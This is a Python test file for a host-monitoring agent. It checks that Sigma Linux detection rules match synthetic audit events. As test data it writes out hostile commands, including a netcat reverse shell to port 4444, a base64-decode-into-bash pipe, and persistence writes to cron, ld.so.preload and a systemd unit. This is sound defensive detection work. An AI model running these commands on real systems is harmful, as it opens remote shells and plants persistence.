"""The shared Sigma Linux rules against agent events built by the agent's own event builder.

Audit records are given in the shape the kernel sends them; the real EventBuilder turns them
into agent events, and each is stored as the server stores it (`store_events`: the event's
fields, without its key), so the detector meets the very rows the event table would hold.
The records are dated long ago, so the builder finds no live process under their pids.
"""

from __future__ import annotations

from collections import Counter
from typing import Any

import pytest

from hostwatch import protocol
from hostwatch.agent.audit import files
from hostwatch.agent.audit.builder import EventBuilder
from hostwatch.agent.audit.procfs import SocketInfo
from hostwatch.agent.audit.records import (
    CWD,
    EOE,
    EXECVE,
    SOCKADDR,
    SYSCALL,
    Assembler,
    AuditEvent,
    parse_record,
)
from hostwatch.agent.processes import ProcessCollector
from hostwatch.detection.engine import Detector
from hostwatch.detection.linux import agent_view, node_fields, usability
from hostwatch.detection.rules import CompiledRule, LoadReport, load_rules
from hostwatch.detection.view import product_of, sigma_view
from tests.shared import shared_data

BASE64_PIPE = "ba592c6d-6888-43c3-b8c6-689b8fe47337"  # proc_creation_lnx_base64_execution
NETCAT_REVERSE = "7f734ed0-4f47-46c0-837f-6ee62505abd9"  # proc_creation_lnx_netcat_reverse_shell
INTERACTIVE_BASH = "ea3ecad2-db86-4a89-ad0b-132a10d2db55"  # proc_creation_lnx_susp_interactive_bash
CRON_FILE = "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05"  # file_event_lnx_susp_cron_file_created
LD_PRELOAD = "4b3cb710-5e83-4715-8c45-8b2b5b3e5751"  # lnx_auditd_ld_so_preload_mod (auditd)
SYSTEMD_UNIT = "1bac86ba-41aa-4f62-9d6b-405eac99b485"  # lnx_auditd_systemd_service_creation
CALLBACK_PORT = (
    "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376"  # net_connection_lnx_susp_malware_callback_port
)
BASH_CONNECT = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"  # net_connection_lnx_back_connect_shell_dev

SECONDS = 1000000000  # 2001: before any live process started
SYSCALLS = {(0xC000003E, 59): "execve", (0xC000003E, 42): "connect", (0xC000003E, 257): "openat"}


@pytest.fixture(scope="module")
def linux_rules() -> tuple[list[CompiledRule], LoadReport]:
    return load_rules([shared_data("sigma", "rules", "linux")])


@pytest.fixture(scope="module")
def linux_detector(linux_rules: tuple[list[CompiledRule], LoadReport]) -> Detector:
    return Detector(linux_rules[0])


class _Agent:
    """The agent's EventBuilder fed with kernel-shaped audit records."""

    def __init__(self) -> None:
        self.builder = EventBuilder(
            ProcessCollector("test-machine", boot_id="test-boot"),
            "test-machine",
            "test-boot",
            SYSCALLS,
        )
        self.serial = 100

    def _event(self, *records: tuple[int, str]) -> AuditEvent:
        self.serial += 1
        assembler = Assembler()
        header = f"audit({SECONDS}.250:{self.serial}): ".encode()
        done: list[AuditEvent] = []
        for kind, body in (*records, (EOE, "")):
            done += assembler.add(parse_record(kind, header + body.encode()), now=0.0)
        assert len(done) == 1
        return done[0]

    def exec(
        self, pid: int, ppid: int, exe: str, argv: list[str], cwd: str = "/root", uid: int = 0
    ) -> dict[str, Any]:
        args = " ".join(f"a{i}={value.encode().hex().upper()}" for i, value in enumerate(argv))
        event = self._event(
            (
                SYSCALL,
                f"arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 "
                f"ppid={ppid} pid={pid} auid=0 uid={uid} gid=0 euid={uid} suid=0 fsuid=0 "
                f'egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="{exe.rsplit("/", 1)[-1]}" '
                f'exe="{exe}" key="hostwatch-agent"',
            ),
            (EXECVE, f"argc={len(argv)} {args}"),
            (CWD, f'cwd="{cwd}"'),
        )
        return _stored(self.builder.process_created(event, "execve"))

    def file(self, pid: int, exe: str, path: str, action: str, category: str) -> dict[str, Any]:
        event = self._event(
            (
                SYSCALL,
                f"arch=c000003e syscall=257 success=yes exit=3 a0=1 a1=2 a2=3 a3=8 items=2 "
                f"ppid=1 pid={pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 "
                f'fsgid=0 tty=pts0 ses=3 comm="x" exe="{exe}" key="hostwatch-agent"',
            ),
        )
        change = files.Change(action=action, path=path, category=category)
        return _stored(self.builder.file_changed(event, "openat", change))

    def connect(self, pid: int, exe: str, address: str, port: int) -> dict[str, Any]:
        octets = bytes(int(part) for part in address.split("."))
        saddr = (b"\x02\x00" + port.to_bytes(2, "big") + octets + bytes(8)).hex().upper()
        event = self._event(
            (
                SYSCALL,
                f"arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=2 a2=10 a3=0 items=0 "
                f"ppid=1 pid={pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 "
                f'fsgid=0 tty=pts0 ses=3 comm="x" exe="{exe}" key="hostwatch-agent"',
            ),
            (SOCKADDR, f"saddr={saddr}"),
        )
        event.notes["socket"] = SocketInfo("tcp", "10.0.0.5", 40000, address, port)
        built = self.builder.connection(event, "connect")
        assert built is not None
        return _stored(built)


def _stored(event: protocol.AgentEvent) -> dict[str, Any]:
    """The event as `store_events` hands it to the event store."""
    return event.model_dump(exclude={"key"})


def _matched(detector: Detector, row: dict[str, Any]) -> set[str]:
    return {match.rule_id for match in detector.match([row])}


def test_linux_process_view_names_the_sigma_fields() -> None:
    agent = _Agent()
    agent.exec(3001, 1, "/usr/bin/bash", ["bash", "-i"])
    row = agent.exec(3002, 3001, "/usr/bin/base64", ["base64", "-d", "a b.txt"], cwd="/tmp")

    view = sigma_view(row)

    assert product_of(view) == "linux"
    assert view["Image"] == "/usr/bin/base64"
    assert view["CommandLine"] == "base64 -d a b.txt"  # stored: base64 -d 'a b.txt'
    assert row["process_command_line"] == "base64 -d 'a b.txt'"
    assert view["ParentImage"] == "/usr/bin/bash"
    assert view["ParentCommandLine"] == "bash -i"
    assert view["ParentProcessId"] == 3001
    assert view["ProcessId"] == 3002
    assert view["CurrentDirectory"] == "/tmp"
    assert view["User"] == "root"
    assert view["LogonId"] == 0
    # The auditd view of the same event: EXECVE arguments split back out of the line.
    assert view["type"] == ["SYSCALL", "EXECVE", "CWD", "PATH"]
    assert (view["a0"], view["a1"], view["a2"], view["argc"]) == ("base64", "-d", "a b.txt", 3)
    assert "a3" not in view
    assert (view["syscall"], view["exe"], view["comm"]) == ("execve", "/usr/bin/base64", "base64")


def test_linux_base64_decoded_into_a_shell_matches_and_a_plain_encode_does_not(
    linux_detector: Detector,
) -> None:
    agent = _Agent()
    bad = agent.exec(3010, 1, "/usr/bin/bash", ["bash", "-c", "echo aWQK | base64 -d | bash"])
    plain = agent.exec(3011, 1, "/usr/bin/base64", ["base64", "notes.txt"])

    assert BASE64_PIPE in _matched(linux_detector, bad)
    assert _matched(linux_detector, plain) == set()


def test_linux_netcat_reverse_shell_matches_and_a_port_check_does_not(
    linux_detector: Detector,
) -> None:
    agent = _Agent()
    shell = agent.exec(3020, 1, "/usr/bin/nc", ["nc", "10.1.2.3", "4444", "-e", "/bin/sh"])
    check = agent.exec(3021, 1, "/usr/bin/nc", ["nc", "-z", "10.1.2.3", "22"])

    assert NETCAT_REVERSE in _matched(linux_detector, shell)
    assert NETCAT_REVERSE not in _matched(linux_detector, check)


def test_linux_parent_command_line_from_the_builder_feeds_parent_rules(
    linux_detector: Detector,
) -> None:
    agent = _Agent()
    agent.exec(3030, 1, "/usr/bin/bash", ["bash", "-i"])
    child = agent.exec(3031, 3030, "/usr/bin/whoami", ["whoami"])
    alone = agent.exec(3032, 1, "/usr/bin/whoami", ["whoami"])

    assert INTERACTIVE_BASH in _matched(linux_detector, child)
    assert INTERACTIVE_BASH not in _matched(linux_detector, alone)


def test_linux_cron_file_and_ld_preload_writes_match_and_a_profile_edit_does_not(
    linux_detector: Detector,
) -> None:
    agent = _Agent()
    cron = agent.file(3040, "/usr/bin/tee", "/etc/cron.d/backdoor", "FileCreated", "cron")
    legit = agent.file(3041, "/usr/bin/dpkg", "/etc/cron.daily/dpkg", "FileModified", "cron")
    preload = agent.file(3042, "/usr/bin/tee", "/etc/ld.so.preload", "FileCreated", "preload")
    unit = agent.file(
        3043, "/usr/bin/cp", "/etc/systemd/system/evil.service", "FileCreated", "systemd"
    )
    unit_removed = agent.file(
        3044, "/usr/bin/rm", "/etc/systemd/system/evil.service", "FileDeleted", "systemd"
    )

    assert sigma_view(cron)["TargetFilename"] == "/etc/cron.d/backdoor"
    assert CRON_FILE in _matched(linux_detector, cron)
    assert CRON_FILE not in _matched(linux_detector, legit)
    assert LD_PRELOAD in _matched(linux_detector, preload)
    assert SYSTEMD_UNIT in _matched(linux_detector, unit)
    assert SYSTEMD_UNIT not in _matched(linux_detector, unit_removed)


def test_linux_connection_to_a_callback_port_matches_and_https_does_not(
    linux_detector: Detector,
) -> None:
    agent = _Agent()
    callback = agent.connect(3050, "/usr/bin/python3.11", "203.0.113.9", 4444)
    https = agent.connect(3051, "/usr/bin/curl", "203.0.113.9", 443)
    bash = agent.connect(3052, "/usr/bin/bash", "203.0.113.9", 443)

    view = sigma_view(callback)
    assert (view["DestinationIp"], view["DestinationPort"]) == ("203.0.113.9", 4444)
    assert (view["SourceIp"], view["SourcePort"]) == ("10.0.0.5", 40000)
    assert (view["Initiated"], view["Protocol"]) == ("true", "tcp")
    assert CALLBACK_PORT in _matched(linux_detector, callback)
    assert _matched(linux_detector, https) == set()
    assert BASH_CONNECT in _matched(linux_detector, bash)


def test_linux_rules_meet_only_events_of_their_log_source(linux_detector: Detector) -> None:
    agent = _Agent()
    process = agent_view(agent.exec(3060, 1, "/usr/bin/true", ["true"]))
    connection = agent_view(agent.connect(3061, "/usr/bin/curl", "203.0.113.9", 443))

    process_count, _ = linux_detector.considered(process)
    network_count, _ = linux_detector.considered(connection)
    windows_count, _ = linux_detector.considered(
        sigma_view(
            {"event_code": "1", "fields": {"channel": "Microsoft-Windows-Sysmon/Operational"}}
        )
    )

    by_feed = Counter(rule.category or rule.service for rule in linux_detector.rules.values())
    assert process_count == by_feed["process_creation"] + by_feed["auditd"]
    assert network_count == by_feed["network_connection"] + by_feed["auditd"]
    assert windows_count == 0


def test_linux_rules_load_and_the_unusable_are_named(
    linux_rules: tuple[list[CompiledRule], LoadReport],
) -> None:
    rules, report = linux_rules
    unusable = {}
    for rule in rules:
        names = set().union(*(node_fields(version.node) for version in rule.versions))
        reason = usability(rule.info.product, rule.info.category, rule.info.service, names)
        if reason is not None:
            unusable[rule.info.path.rsplit("linux/", 1)[-1]] = reason
    for path, reason in sorted(unusable.items()):
        print(f"unusable: {path}: {reason}")
    print(
        f"loaded {len(rules)}, rejected {len(report.rejected)}, usable {len(rules) - len(unusable)}"
    )

    assert report.files == 210
    assert len(rules) + len(report.rejected) == 210
    assert all(version.log == "linux" for rule in rules for version in rule.versions)
    assert "network_connection/net_connection_lnx_ngrok_tunnel.yml" in unusable
    assert (
        "DestinationHostname" in unusable["network_connection/net_connection_lnx_ngrok_tunnel.yml"]
    )
    assert "builtin/lnx_shellshock.yml" in unusable
    assert "process_creation/proc_creation_lnx_base64_execution.yml" not in unusable
    assert "auditd/path/lnx_auditd_ld_so_preload_mod.yml" not in unusable
    assert len(rules) - len(unusable) >= 140
